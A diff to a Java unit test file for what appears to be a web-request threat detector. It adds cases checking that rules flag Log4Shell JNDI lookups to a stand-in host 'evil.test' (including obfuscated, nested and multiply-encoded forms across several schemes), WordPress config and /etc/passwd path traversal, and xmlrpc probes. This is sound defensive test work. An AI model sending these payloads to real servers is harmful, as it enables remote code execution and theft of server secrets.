@@ -7,6 +7,7 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class FreeRulesTest {
     @ParameterizedTest(name = "{1} in {0}: {2}")
@@ -15,6 +16,7 @@ class FreeRulesTest {
             target | /${jndi:rmi://evil.test/a}                                                   | ec-log4j
             target | /?q=$%7Bjndi:dns://evil.test%7D                                              | ec-log4j
             target | /?q=%2524%257Bjndi:ldap://evil.test%257D                                     | ec-log4j
+            target | /?q=%252524%25257Bjndi:ldap://evil.test%25257D                               | ec-log4j
             target | /?q=%25252524%2525257Bjndi:ldap://evil.test%2525257D                         | -
             target | /?q=${${lower:J}ndi:${lower:l}${lower:d}a${upper:P}://evil.test}             | ec-log4j
             target | /?q=${${::-j}${::-n}${::-d}${::-i}:ldap://evil.test}                         | ec-log4j
@@ -42,6 +44,7 @@ class FreeRulesTest {
             target | /?f=../../wp-config.php                                                      | ec-wp-config
             target | /?f=%2e%2e%2fwp-config.php                                                   | ec-wp-config
             target | /?f=wp-config.php                                                            | -
+            target | /?f=wp-config.php&g=../                                                      | -
             target | /wp-content/plugins/x/y.php?f=../../../etc/passwd                            | ec-wp-lfi
             target | /wp-content/plugins/x/y.php?f=php://filter                                   | ec-wp-lfi
             target | /wp-content/plugins/x/y.php?f=a                                              | -
@@ -54,6 +57,7 @@ class FreeRulesTest {
             target | /blog/XMLRPC.php?for=jetpack                                                 | WP0007,WP0002
             target | /xmlrpc.php?for=other                                                        | WP0002
             target | /xmlrpc.php                                                                  | WP0002
+            target | /old-xmlrpc.php?for=jetpack                                                  | -
             target | /xmlrpc.php/x?for=jetpack                                                    | -
             target | /cart?id=7&back=%2Fhome                                                      | -
             """)
@@ -70,6 +74,22 @@ class FreeRulesTest {
                     .as("what is found is looked for")
                     .isTrue();
         }
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"ldap", "ldaps", "rmi", "dns", "iiop", "http", "nis", "corba"})
+    void a_look_up_may_ask_any_of_these_servers(String scheme) {
+        assertThat(Detections.threats(subject("/?q=${jndi:" + scheme + "://evil.test/a}", Headers.EMPTY)))
+                .containsExactly("ec-log4j");
+    }
+
+    @ParameterizedTest
+    @CsvSource({"9, true", "10, true", "11, false"})
+    void a_look_up_is_seen_through_so_many_others(int depth, boolean found) {
+        var letter = "${lower:".repeat(depth) + "j" + "}".repeat(depth);
+
+        assertThat(Detections.threats(subject("/?q=${" + letter + "ndi:ldap://evil.test/a}", Headers.EMPTY)))
+                .hasSize(found ? 1 : 0);
     }
 
     @ParameterizedTest
